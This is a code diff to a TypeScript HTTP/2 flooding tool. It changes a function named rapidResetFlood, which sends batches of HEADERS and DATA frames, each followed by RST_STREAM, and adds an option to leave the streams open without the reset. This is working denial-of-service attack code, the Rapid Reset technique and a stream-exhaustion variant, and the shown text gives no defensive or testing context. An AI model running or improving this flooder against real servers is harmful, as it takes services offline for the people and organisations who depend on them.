@@ -57,8 +57,8 @@ export interface FloodTarget {
   body?: Uint8Array;
   /** The body ends the stream (END_STREAM on its DATA frame), as a complete request would. */
   endStream?: boolean;
-  /** RST_STREAM's error code: CANCEL (8) unless said. */
-  resetCode?: number;
+  /** RST_STREAM's error code: CANCEL (8) unless said; null: no reset (the streams stay open). */
+  resetCode?: number | null;
 }
 
 export interface FloodResult {
@@ -145,7 +145,7 @@ export async function rapidResetFlood(
       for (let i = 0; i < batch && result.streams < maxStreams; i++, id += 2, result.streams++) {
         frames.push(frame(FRAME.HEADERS, FLAG.END_HEADERS, id, block));
         if (body) frames.push(frame(FRAME.DATA, target.endStream ? FLAG.END_STREAM : 0, id, body));
-        frames.push(frame(FRAME.RST_STREAM, 0, id, rst));
+        if (target.resetCode !== null) frames.push(frame(FRAME.RST_STREAM, 0, id, rst));
       }
       if (!socket.write(Buffer.concat(frames))) {
         await new Promise<void>((resolve) => {
